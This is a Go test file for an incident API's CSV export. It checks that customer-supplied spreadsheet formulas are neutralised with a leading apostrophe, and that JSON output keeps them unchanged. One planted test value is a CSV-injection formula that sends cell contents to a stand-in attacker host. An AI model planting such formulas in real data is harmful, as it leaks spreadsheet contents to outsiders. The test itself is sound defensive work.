package httpapi_test

import (
	"net/http"
	"testing"

	"github.com/incidentd/incidentd/auth"
)

// TestExportNeutralizesFormulas: a customer plants spreadsheet formulas in
// what it writes; the operator's CSV export opens them as text (OWASP's
// CSV injection guidance), unless the server is told to keep cells as
// stored. JSON and NDJSON are data for programs and stay as written.
func TestExportNeutralizesFormulas(t *testing.T) {
	planted := map[string]string{
		"description":       `=HYPERLINK("http://evil.example/?"&A1,"Open")`,
		"customerReference": "@SUM(1+1)",
		"contact.name":      "-1+2",
		"contact.phone":     "+33 1 23 45 67 89",
	}
	body := incidentBody(1, "S2", "U2", "")
	body["description"] = planted["description"]
	body["customerReference"] = planted["customerReference"]
	body["contact"] = map[string]any{"name": planted["contact.name"], "phone": planted["contact.phone"]}

	for name, opts := range map[string]options{"default": {}, "keeping formulas": {csvKeepFormulas: true}} {
		t.Run(name, func(t *testing.T) {
			eachBackendWith(t, opts, func(t *testing.T, e *env) {
				customer := e.login(e.newCustomer("acme", "Acme"), auth.ScopeIncident)
				operator := e.login(e.newOperator(), auth.ScopeOperator)
				e.report(customer, body)
				_, rows, _ := e.exportCSV(operator, "fields=description,customerReference,contact")
				if len(rows) != 1 {
					t.Fatalf("%d rows", len(rows))
				}
				for column, value := range planted {
					want := "'" + value
					if opts.csvKeepFormulas {
						want = value
					}
					if rows[0][column] != want {
						t.Errorf("%s: cell %q, want %q", column, rows[0][column], want)
					}
				}
				list := e.call(operator, http.MethodGet, base+"/incidents", nil).list(t)
				if list[0]["description"] != planted["description"] {
					t.Errorf("JSON description %q, want it as written", list[0]["description"])
				}
			})
		})
	}
}
